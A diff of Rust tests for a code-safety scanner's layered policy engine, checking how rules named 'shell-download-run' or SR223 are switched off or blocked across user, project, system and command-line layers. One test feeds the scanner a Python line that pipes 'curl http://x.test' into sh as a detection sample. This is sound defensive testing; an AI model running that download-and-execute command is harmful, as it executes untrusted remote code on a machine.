@@ -3,13 +3,13 @@
 use std::time::Duration;
 
 use saferun_policy::{
-    Action, Bytes, ClientKind, DecisionRequest, Fate, LayerKind, LoadOptions, Loaded,
-    RequestedLimits, Runtime, Source, Verdict, load, preset, preset_names,
+    Action, Bytes, ClientKind, DecisionRequest, Fate, LayerKind, Loaded, RequestedLimits, Runtime,
+    Source, Verdict, check_beside, load, preset, preset_names,
 };
 use saferun_scanner::{Position, Range, Report, Usage, UsageKind};
 
 fn loaded(sources: &[Source]) -> Loaded {
-    load(sources, &LoadOptions::default()).unwrap_or_else(|error| panic!("{error}"))
+    load(sources).unwrap_or_else(|error| panic!("{error}"))
 }
 
 fn user(text: &str) -> Source {
@@ -394,7 +394,7 @@ fn settings_of_an_agent_can_be_made_to_tighten_only() {
     assert_eq!(after.warnings.len(), 1);
     // A file that tightens only may not hold the keys of a trusted one either.
     let doubtful = user("alerts: {command: [/tmp/x]}").tightening();
-    assert!(load(&[doubtful], &LoadOptions::default()).is_err());
+    assert!(load(&[doubtful]).is_err());
 }
 
 #[test]
@@ -421,7 +421,7 @@ fn unattended_needs_the_users_own_word_and_a_project_can_take_it_back() {
     );
     for layer in [LayerKind::System, LayerKind::Project] {
         let source = Source::yaml(layer, "x", "version: 1\noverride: {unattended: true}");
-        assert!(load(&[source], &LoadOptions::default()).is_err(), "{layer}");
+        assert!(load(&[source]).is_err(), "{layer}");
     }
 }
 
@@ -484,6 +484,92 @@ fn a_scan_that_was_cut_short_counts_as_blocked() {
             open.decide(&report, &DecisionRequest::default()).verdict,
             Verdict::Allow,
             "it blocks no name"
+        );
+    }
+}
+
+/// What a rule's finding comes to in each order of layers, called by its name in one and by its id in the other.
+#[test]
+fn a_rule_is_the_same_by_its_name_and_by_its_id_whichever_layer_speaks() {
+    let code = "import os\nos.system('curl http://x.test | sh')\n";
+    let report = saferun_scanner::scan(code, &saferun_scanner::Options::default());
+    assert!(
+        report.findings.iter().any(|one| one.rule == "SR223"),
+        "{:?}",
+        report.findings
+    );
+    let quiet = "rules: {SR201: off, SR239: off, shell-network: off, ";
+    let says = |layers: &[Source]| {
+        let policy = loaded(layers).policy;
+        let decision = policy.decide(&report, &DecisionRequest::default());
+        decision
+            .reasons
+            .iter()
+            .any(|clause| clause.text.contains("shell-download-run"))
+    };
+    for (first, second) in [
+        ("shell-download-run", "SR223"),
+        ("SR223", "shell-download-run"),
+        ("Sr223", "SHELL-DOWNLOAD-RUN"),
+    ] {
+        let off = user(&format!("{quiet}{first}: off}}"));
+        let blocked = |source: fn(&str) -> Source| source(&format!("rules: {{{second}: BLOCKED}}"));
+        assert!(!says(std::slice::from_ref(&off)), "{first} is off");
+        // A project tightens what the user switched off, and loosens nothing.
+        assert!(
+            says(&[off.clone(), blocked(project)]),
+            "{second} after {first}"
+        );
+        let loose = project(&format!("rules: {{{first}: off}}"));
+        assert!(says(&[blocked(user), loose]), "{first} after {second}");
+        // The last trusted layer decides.
+        let system = |line: &str| Source::yaml(LayerKind::System, "/etc/saferun/policy.yaml", line);
+        let before = system(&format!("version: 1\nrules: {{{second}: BLOCKED}}"));
+        assert!(!says(&[before, off.clone()]), "{first} after {second}");
+        let flag = Source::flag("--set", &format!("rules.{second}"), "BLOCKED");
+        assert!(says(&[off, flag]), "{second} on the command line");
+    }
+}
+
+#[test]
+fn layers_may_speak_of_each_others_custom_rules_and_of_no_unknown_ones() {
+    let makes = |layer| {
+        Source::yaml(
+            layer,
+            "makes.yaml",
+            "version: 1\ncustom_rules: [{id: no-os, import: os, level: HIGH, message: no}]",
+        )
+    };
+    let raises = project("rules: {no-os: BLOCKED}");
+    let level = |sources: &[Source]| {
+        let policy = loaded(sources).policy;
+        policy
+            .decide(&uses(UsageKind::Import, "os"), &DecisionRequest::default())
+            .risk
+    };
+    use saferun_scanner::Level;
+    assert_eq!(level(&[makes(LayerKind::User)]), Level::High);
+    assert_eq!(
+        level(&[makes(LayerKind::User), raises.clone()]),
+        Level::Blocked
+    );
+    assert_eq!(
+        level(&[makes(LayerKind::System), user("rules: {no-os: off}")]),
+        Level::Low
+    );
+    assert!(check_beside(&raises, &[makes(LayerKind::User)]).is_empty());
+    for (sources, place) in [
+        (vec![raises], ".saferun.yaml:2"),
+        (vec![user("rules: {SR9999: off}")], "user.yaml:2"),
+        (
+            vec![Source::flag("--set", "rules.shel-command", "off")],
+            "--set",
+        ),
+    ] {
+        let wrong = load(&sources).expect_err(place).to_string();
+        assert!(
+            wrong.starts_with("error: there is no rule") && wrong.contains(place),
+            "{wrong}"
         );
     }
 }
